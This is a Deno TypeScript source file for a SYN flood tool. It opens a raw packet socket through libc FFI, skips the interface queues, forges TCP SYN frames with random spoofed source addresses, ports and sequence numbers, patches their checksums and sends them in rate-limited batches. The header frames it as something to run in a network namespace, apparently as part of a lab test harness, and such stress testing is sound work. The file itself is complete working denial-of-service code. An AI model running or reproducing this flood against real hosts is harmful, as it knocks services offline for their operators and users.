/**
 * A flood of SYNs from random addresses, as frames that no kernel has made a connection for. Run in a network namespace:
 * `deno run --allow-ffi syn_flood.ts '{"interface":"lab1",…}'`; it says how many were sent.
 *
 * @module
 */
import { getSystemErrorName } from "node:util";
import { seededRandom } from "../timing/random.ts";
import { mssOption, tcpFrame } from "./frames.ts";

/** Who floods whom. */
export interface FloodPlan {
  interface: string;
  /** The server's address as a number, and its port. */
  address: number;
  port: number;
  syns: number;
  seed: number;
  /** SYNs sent in a second at most. */
  rate: number;
}

const AF_PACKET = 17;
const SOCK_RAW = 3;
const SOCKADDR_LL_BYTES = 20;
const EAGAIN = 11;
const ENOBUFS = 105;
const SOL_PACKET = 263;
const PACKET_QDISC_BYPASS = 20; // straight to the device: less work of the core that the flood shares
const BATCH = 64; // SYNs of one call
const FRAME_BYTES = 64; // one SYN takes 58
const IOVEC_WORDS = 2; // struct iovec, of 64-bit words: address, length
const MMSGHDR_WORDS = 8; // struct mmsghdr: struct msghdr of seven words, and what was sent
const MSG_IOV = 2;
const MSG_IOVLEN = 3;
const NETWORK = 0x0a000000; // 10/8
const SOURCE_AT = 26; // in the frame: the source address, and its port and sequence number
const PORT_AT = 34;
const SEQ_AT = 38;
const IP_SUM_AT = 24;
const TCP_SUM_AT = 50;

/** Adds 16-bit words, and folds the carries: RFC 1071. */
function fold(sum: number): number {
  while (sum > 0xffff) sum = (sum >>> 16) + (sum & 0xffff);
  return sum;
}

const halves = (word: number): number => (word >>> 16) + (word & 0xffff);
const addressOf = (memory: Uint8Array<ArrayBuffer> | BigUint64Array<ArrayBuffer>): bigint =>
  BigInt(Deno.UnsafePointer.value(Deno.UnsafePointer.of(memory)));

/** SYNs whose sources can be set: the two checksums are those of a SYN from nowhere, and what has changed (RFC 1624). */
class Syns {
  /** For sendmmsg(2). */
  readonly messages = new BigUint64Array(BATCH * MMSGHDR_WORDS);
  readonly #frames = new Uint8Array(BATCH * FRAME_BYTES);
  readonly #view = new DataView(this.#frames.buffer);
  readonly #vectors = new BigUint64Array(BATCH * IOVEC_WORDS);
  readonly #ipSum: number; // without the source
  readonly #tcpSum: number;

  constructor(address: number, port: number) {
    const syn = tcpFrame({ from: [0, 0], to: [address, port], flags: "S", options: mssOption(1460) });
    for (let i = 0; i < BATCH; i++) {
      this.#frames.set(syn, i * FRAME_BYTES);
      const start = addressOf(this.#frames) + BigInt(i * FRAME_BYTES);
      this.#vectors.set([start, BigInt(syn.length)], i * IOVEC_WORDS);
      this.messages[i * MMSGHDR_WORDS + MSG_IOV] = addressOf(this.#vectors) + BigInt(i * IOVEC_WORDS * 8);
      this.messages[i * MMSGHDR_WORDS + MSG_IOVLEN] = 1n;
    }
    this.#ipSum = 0xffff - this.#view.getUint16(IP_SUM_AT);
    this.#tcpSum = 0xffff - this.#view.getUint16(TCP_SUM_AT);
  }

  setSource(i: number, address: number, port: number, seq: number): void {
    const view = this.#view;
    const frame = i * FRAME_BYTES;
    view.setUint32(frame + SOURCE_AT, address);
    view.setUint16(frame + PORT_AT, port);
    view.setUint32(frame + SEQ_AT, seq);
    view.setUint16(frame + IP_SUM_AT, 0xffff - fold(this.#ipSum + halves(address)));
    view.setUint16(frame + TCP_SUM_AT, 0xffff - fold(this.#tcpSum + halves(address) + port + halves(seq)));
  }
}

/** Opens a packet socket at an interface. Returns what sends SYNs there: how many the kernel has taken. */
function openSender(name: string): (syns: Syns, count: number) => number {
  const libc = Deno.dlopen("libc.so.6", {
    socket: { parameters: ["i32", "i32", "i32"], result: "i32" },
    setsockopt: { parameters: ["i32", "i32", "i32", "buffer", "i32"], result: "i32" },
    bind: { parameters: ["i32", "buffer", "i32"], result: "i32" },
    if_nametoindex: { parameters: ["buffer"], result: "u32" },
    sendmmsg: { parameters: ["i32", "buffer", "u32", "i32"], result: "i32" },
    __errno_location: { parameters: [], result: "pointer" },
  }).symbols;
  const errno = new Int32Array(Deno.UnsafePointerView.getArrayBuffer(libc.__errno_location()!, 4));
  const must = (result: number, action: string) => {
    if (result >= 0) return result;
    throw new Error(`Cannot ${action}: ${getSystemErrorName(-errno[0]!)}`);
  };
  const socket = must(libc.socket(AF_PACKET, SOCK_RAW, 0), "create a packet socket");
  const bypass = libc.setsockopt(socket, SOL_PACKET, PACKET_QDISC_BYPASS, Int32Array.of(1), 4);
  must(bypass, "go around the queues of the interface");
  const address = new Uint8Array(SOCKADDR_LL_BYTES);
  const index = libc.if_nametoindex(new TextEncoder().encode(`${name}\0`));
  new Int32Array(address.buffer).set([AF_PACKET, index]);
  must(libc.bind(socket, address, SOCKADDR_LL_BYTES), `bind to ${name}`);
  return (syns, count) => {
    const taken = libc.sendmmsg(socket, syns.messages, count, 0);
    // A full queue takes none: the sources that were made for it are lost, as others that the server does not see.
    return taken < 0 && (errno[0] === EAGAIN || errno[0] === ENOBUFS) ? 0 : must(taken, "send SYNs");
  };
}

/** Sends the flood. */
async function flood(plan: FloodPlan): Promise<void> {
  const send = openSender(plan.interface);
  const random = seededRandom(plan.seed);
  const syns = new Syns(plan.address, plan.port);
  const start = performance.now();
  for (let sent = 0; sent < plan.syns;) {
    const due = Math.min(plan.syns, Math.floor((performance.now() - start) / 1000 * plan.rate));
    const count = Math.min(BATCH, due - sent);
    for (let i = 0; i < count; i++) {
      const host = 3 + Math.floor(random() * (2 ** 24 - 4)); // neither the server's address nor the kernel's
      syns.setSource(i, NETWORK + host, 1 + Math.floor(random() * 65_535), Math.floor(random() * 2 ** 32));
    }
    if (count > 0) sent += send(syns, count);
    if (count < BATCH) await new Promise((resolve) => setTimeout(resolve, 1));
  }
  console.log(plan.syns);
}

if (import.meta.main) await flood(JSON.parse(Deno.args[0]!) as FloodPlan);
